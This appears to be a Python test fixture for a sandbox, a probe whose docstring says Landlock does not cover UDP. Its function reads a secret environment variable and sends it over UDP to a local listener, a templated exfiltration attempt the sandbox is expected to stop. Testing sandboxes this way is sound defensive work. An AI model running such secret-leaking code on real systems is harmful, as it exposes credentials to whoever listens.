"""Class 6 (host harm): the same over UDP, which Landlock does not cover.

exercise: probe
expected: not pass
harm: something reaches the listener
"""

import os
import socket


def answer():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto((os.environ.get("@SECRET_NAME@", "") or "empty").encode(), ("127.0.0.1", @UDP_PORT@))
    return 41
